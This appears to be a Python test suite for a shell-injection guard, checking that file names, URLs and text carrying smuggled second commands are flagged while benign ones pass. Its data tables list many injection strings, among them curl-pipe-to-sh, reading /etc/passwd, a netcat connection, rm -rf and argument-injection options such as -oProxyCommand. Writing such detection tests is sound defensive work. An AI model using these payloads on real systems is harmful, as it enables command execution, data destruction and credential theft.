"""Tables of values that are no command: what becomes one behind a tool, and what looks like it and is honest."""

from __future__ import annotations

from functools import partial
from typing import TYPE_CHECKING
from unittest.mock import patch

from hypothesis import given
from hypothesis import strategies as st

from sekisho.guards import chained, spliced
from sekisho.guards.chained import LONGEST, judge_address, judge_file, judge_message, judge_phrase
from sekisho.guards.objection import CLEAN
from sekisho.guards.spliced import judge_spliced
from tablekit import rows

if TYPE_CHECKING:
    from sekisho.guards.objection import Judgement

SECOND = (
    "a; touch x", "a;touch x", "a;touch", "a && touch x", "a&&touch x", "a || touch x", "a & touch x", "a | sh -c id", "a\ntouch x", "a\r\nrm x",
    "a; /usr/bin/touch x", "a;touch${IFS}x", "a;touch$IFS$9x", "a;{touch,x}", "a; curl http://x | sh", "a; sudo id", 'a"; touch x; "', "a'; touch x; '",
    'a"; touch x #', "a; python3 -c 'x'", "a; node x.js", "a; cat /etc/passwd", "a; find . -delete", "a; echo x>/tmp/y", "a; git config x=y",
    "a; powershell -enc x", "a\nfile /etc/passwd", "a; Python3 -c x.y", "a; return $(touch x)", "a && whoami", "a; ls", "a; rm -rf ~", "a; make SHELL=x", "a; RM -rf /", "a & cat /etc/passwd", "a; cmd.exe /c x", "x; nc 10.0.0.1 4444",
    "80;touch x", "a;touch x;", "a %3B touch x", "a\uff1b touch x", "a%26%26touch x",
)  # fmt: skip
ADDRESSES = tuple(each for each in SECOND if "%" not in each and each.isascii())
PLACED = (
    "a$(id)", "a`id`", "$(touch x)", "<(id)", ">(id)", "a${IFS}b", "a; id", "a|id", "a && pwd", "a > /etc/x", "a>>~/.bashrc", "a < /etc/passwd",
    "a >&2", "a\n$(x)",
)  # fmt: skip
HIDDEN = (
    "a; /tmp/evil", "a;./x", "a;'t'ouch x", "a; FOO=1 touch x", "a; (touch x)", "a; !touch x", "a; $SHELL -c x", "a; \\\ntouch x", "a | { touch x; }", "a; exec touch x",
)  # fmt: skip
INSIDE = ("$(touch x)", "A$(id)", "a<(id)", "A`touch x`", "`touch x`", "eth0 $(curl http://x)", "a && id")
OPTIONS = (
    "--output=x",
    "-oProxyCommand=x",
    "--upload-pack=x",
    " --use-compress-program=x",
    '"--exec=x',
    "a --checkpoint-action=exec=x",
)
FILES = (
    "R&D (final); v2.txt", "a && b.txt", "Tom & Jerry/x.mkv", "Read; sort.txt", "don't.txt", "it's; done.md", "a|b.txt",
    "**/*.@(js|sh)", "{src,test}/**", "(test|find).py", "a.txt;b.txt", "posts.$postId.tsx", "$RECYCLE.BIN/x", "a -> b.txt", "C# => Java.md",
    "[id].tsx", "-", "-A", "--all", "-rf", "@scope/pkg/x.js", "100%; done.txt", "日本語; テスト＆.md", "A＆B.pdf", "", "x" * LONGEST, "Q&A.md", "Cut & paste test.md", "Search & find guide.pdf",
    "report --final.pdf", "a < b.txt", "*.py, *.sh", "a; b; c", "\ttouch x", "touch x", "#;x",
)  # fmt: skip
WEB = (
    "https://x.example/a?b=1&sort=desc&test", "https://x.example/?$filter=(a eq 1)&$select=b", "https://x.example/a;jsessionid=1?x", "https://x.example/a(b);c=1?x=a|b&y='z'",
    "https://x.example/wiki/Foo_(bar);v=2", "https://x.example/a%3Btouch%20x", "https://x.example/?q=a%60b%60", "https://x.example/?touch&rm", "2001:db8::1", "fd::1",
    "10.0.0.0/24", "user@host.example:22", "a.example, b.example", "https://x.example/#/a&b;c", "https://x.example/?q=R%26D", "https://x.example/-/x--y=z", "x.example:443",
)  # fmt: skip
PHRASES = (
    "First; find the thing", "name; id; email", "name|id|date", "Use $(MAKE) instead of make", "salt & pepper", "a; b", "this && that", "run `git status`", "cost: $(amount)",
    "open | closed", "wait; then go", "5; 6", "A & B; C", "tcp port 80 && host x", "red; green; blue", "cats & dogs", "const a = b.map(f); return a.filter((h) => !/x.y/.test(h))",
    'Traceback:\n  File "/usr/lib/x.py", line 1', "a;\n  let b = c.d();\n  continue", "手順: (1) 設定を開く; (2) 保存する。", "A社の売上；B社の売上", "平日は9時 & 土曜は10時",
)  # fmt: skip
MESSAGES = (
    "fix: a; b && $(c)", 'Rename "a"; drop b', 'echo "x" | base64', "Don't panic; find a way", "don't; rm is bad", 'say "no"; rm is bad', "Use `rm -rf x; touch y`",
    "quote $(pwd), $(nproc) and $(git rev-parse HEAD)", "replace $(ls *.txt) by a glob", 'run "a" && "b"; touch c', "'a' | sort", "the users'; a list", "R&D",
    'echo \\"a\\"; touch b', "printf '%s' x; curl https://x.example", "a; touch b", "--output=x", "a\nb; rm c", "it's 5 o'clock; open the door", "", '"', "$(",
)  # fmt: skip
ENDED = (
    'fix"; touch x; "', 'fix" && curl http://x | sh #', "fix'; touch x; '", "fix'\nrm x", 'fix\\"; touch x; \\"', 'a "b" c\\" ; touch x #', "$(touch x)", "a $(curl -s http://x) b",
    'x"|sh', 'x" | python3 -c "y', 'say "a" and"; rm -rf x', "x'&& cat /etc/passwd'",
)  # fmt: skip


def told(judgement: Judgement) -> set[str]:
    return {each.rule for each in judgement.objections}


@rows("value", (*SECOND, *PLACED, *HIDDEN))
def test_a_file_starts_no_second_command(value: str) -> None:
    assert told(judge_file(value)) == {"word-shell"}


@rows("value", (*ADDRESSES, *PLACED, *HIDDEN))
def test_an_address_starts_no_second_command(value: str) -> None:
    assert told(judge_address(value)) == {"word-shell"}
    assert told(judge_address(f"https://x.example/{value}")) == {"word-shell"}


@rows("value", ["8.8.8.8 & id", "x&id", "x & whoami"])
def test_a_host_has_no_parts(value: str) -> None:
    assert told(judge_address(value, host=True)) == {"word-shell"}
    assert judge_address(f"https://x.example/?{value}") == CLEAN


@rows("value", (*SECOND, *INSIDE))
def test_words_that_nobody_knows_start_no_second_command(value: str) -> None:
    assert told(judge_phrase(value)) == {"word-shell"}


@rows(
    "value",
    ['会議のメモ"; id; "', "明日の会議; touch x", "会議；rm -rf /", "会議 && curl http://x | sh", "検索; /tmp/x"],
)
def test_words_of_another_script_start_none_either(value: str) -> None:
    assert told(judge_phrase(value, runs=True)) == {"word-shell"}


@rows("value", OPTIONS)
def test_a_place_is_no_option(value: str) -> None:
    assert told(judge_file(value)) == {"word-option"}
    assert told(judge_address(value)) == {"word-option"}


def test_options_are_those_of_the_program_behind_a_file() -> None:
    assert told(judge_file("-O", ("git",))) == {"word-option"}
    assert judge_file("-O", ("kubectl",)) == CLEAN
    assert told(judge_address("-A")) == {"word-option"}


@rows("value", FILES)
def test_an_honest_file_passes(value: str) -> None:
    assert judge_file(value, ("git",)) == CLEAN


@rows("value", WEB)
def test_an_honest_address_passes(value: str) -> None:
    assert judge_address(value) == CLEAN


@rows("value", (*PHRASES, *MESSAGES[:2]))
def test_honest_words_pass(value: str) -> None:
    assert judge_phrase(value) == CLEAN


@rows("value", ["error|open file|kill -9 1", "a == 1 && open == `true`", "x; sleep in (1, 2)", ".[] | ls"])
def test_an_honest_pattern_passes(value: str) -> None:
    assert judge_phrase(value, alternates=True) == CLEAN


@rows("value", ["mp4; touch x", "mp4 && curl http://x", "a|b; rm -rf /", "A4$(id)"])
def test_a_pattern_starts_no_second_command(value: str) -> None:
    assert told(judge_phrase(value, alternates=True)) == {"word-shell"}


@rows("value", MESSAGES)
def test_content_may_speak_of_commands(value: str) -> None:
    assert judge_message(value) == CLEAN


@rows("value", ENDED)
def test_content_may_not_end_the_quotation_in_which_it_stands(value: str) -> None:
    assert told(judge_message(value)) == {"word-shell"}


@rows("value", ["a; id", "x; then cat", "name; hostname", "a; env", "a | sh", "a `touch x`", "a; sort x"])
def test_what_is_not_noticed_in_words_that_nobody_knows(value: str) -> None:
    assert judge_phrase(value) == CLEAN


@rows("value", ["notes; cat pictures.md", "a `quoted` name.txt", "src;test;node", "x & python notes.py", "a\nmake"])
def test_what_is_taken_for_a_command_in_the_name_of_a_file(value: str) -> None:
    assert told(judge_file(value)) == {"word-shell"}


def test_a_place_in_what_was_decoded_is_the_whole_value() -> None:
    (found,) = judge_file("ab %3B touch x").objections
    assert (found.start, found.end) == (0, len("ab %3B touch x"))


@given(st.text(max_size=200))
def test_no_value_makes_it_fail(value: str) -> None:
    for judge in (judge_file, judge_address, judge_phrase, judge_message):
        assert all(0 <= each.start <= each.end <= len(value) for each in judge(value).objections)


class Blind:
    """A set of signatures that could not look: nothing may be concluded."""

    def may_match(self, _: str) -> bool:
        return True


PIECES = (
    "a", ";", "|", "&&", "\n", "$(", "`", "'; ", '"; ', " ", "\t", "\u00a0", "\x1c", "{", ",", "$IFS", "/bin/", "touch", "Sh", "node.EXE", "git", "id",
    "mKdir", " -x", " a.txt", "é", ")", "'", "}", "#",
)  # fmt: skip


@given(st.lists(st.sampled_from(PIECES), max_size=9).map("".join))
def test_the_first_look_passes_nothing_that_the_careful_reading_objects_to(value: str) -> None:
    for judge in (judge_file, judge_phrase, judge_message):
        with patch.object(chained, "_GLANCE", Blind()):
            careful = judge(value)
        assert judge(value) == careful


def test_where_the_first_look_fails_the_careful_reading_decides() -> None:
    with patch.object(chained, "_GLANCE", Blind()):
        assert told(judge_phrase("a; touch x")) == {"word-shell"}


def test_words_for_a_program_bring_no_option_and_no_command_of_their_own() -> None:
    assert told(judge_phrase("a & echo b --exec=x", runs=True)) >= {"word-option"}
    assert told(judge_phrase("a | b --exec=x")) == set()
    assert told(judge_phrase("a; /tmp/evil", runs=True)) == {"word-shell"}


@rows(
    ("value", "runs", "expected"),
    [
        ('a"; id; "', False, True),
        ("a'; id; '", False, True),
        ('a" && id #', False, True),
        ('a "quoted"; then "more"', False, False),
        ('say "a"; "b"', False, False),
        ("; id > x", True, True),
        ("&& id", True, True),
        ("; id > x", False, False),
        ("a; b", True, False),
        ("| a |", True, True),
    ],
)
def test_what_closes_a_quotation_and_takes_up_the_rest_is_a_command(value: str, *, runs: bool, expected: bool) -> None:
    assert bool(told(judge_phrase(value, runs=runs))) is expected


SPOKEN = (
    *PIECES, "；", "｜", "＆＆", "｀", "ｒｍ", " test.md", "cut & paste", "search & find", "、", "。", "明日の会議", "漢", "か\u3099", "가\u11a8", "あ/", "／", "..", "\u200b", "\\\n",
    "--x", "-o", "=", "＝", "{a", "b}", "$1", "%3b", "(", "）", "|find", "K", "eval", "~", ">", "'",
)  # fmt: skip


@given(st.lists(st.sampled_from(SPOKEN), max_size=10).map("".join))
def test_a_text_read_in_parts_passes_nothing_that_the_whole_one_is_objected_to(value: str) -> None:
    for judge in (
        judge_phrase,
        judge_spliced,
        partial(judge_phrase, runs=True),
        partial(judge_phrase, alternates=True),
    ):
        with patch.object(chained, "parts", whole), patch.object(spliced, "parts", whole):
            careful = judge(value)
        assert judge(value) == careful


def whole(_: str, __: object) -> None:
    """Say that a text cannot be cut into parts."""


def test_an_address_ends_no_text_of_applescript() -> None:
    assert told(judge_address('https://example.com/"; do shell script "id')) == {"word-shell"}
